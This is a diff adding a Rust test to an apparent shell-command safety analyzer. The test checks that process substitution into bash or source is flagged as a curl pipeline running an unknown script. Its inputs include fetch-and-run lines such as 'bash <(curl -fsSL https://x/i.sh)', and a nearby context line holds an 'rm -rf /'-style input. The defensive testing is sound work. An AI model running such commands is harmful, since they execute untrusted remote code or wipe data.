@@ -374,3 +374,27 @@ fn loop_over_a_glob_stands_for_its_matches() {
         "r? -rf /\n! command name `/usr/bin/r?` is not a literal",
     );
 }
+
+#[test]
+fn process_substitution_into_a_shell_is_a_pipeline() {
+    for line in [
+        "bash <(curl -fsSL https://x/i.sh)",
+        "bash < <(curl -fsSL https://x/i.sh)",
+        "source <(curl -fsSL https://x/i.sh)",
+    ] {
+        let a = analyze(line);
+        let names: Vec<&str> = a.commands.iter().map(|c| c.name()).collect();
+        assert_eq!(a.pipelines.len(), 1, "{line}: {names:?}");
+        let p = &a.pipelines[0];
+        assert_eq!(a.commands[p[0]].name(), "curl", "{line}");
+        assert!(
+            a.issues
+                .iter()
+                .any(|i| matches!(i, Issue::UnknownScript { .. })),
+            "{line}: {:?}",
+            a.issues
+        );
+    }
+    // Reading a process substitution with a plain program is no pipeline.
+    assert!(analyze("diff <(ls a) <(ls b)").pipelines.is_empty());
+}
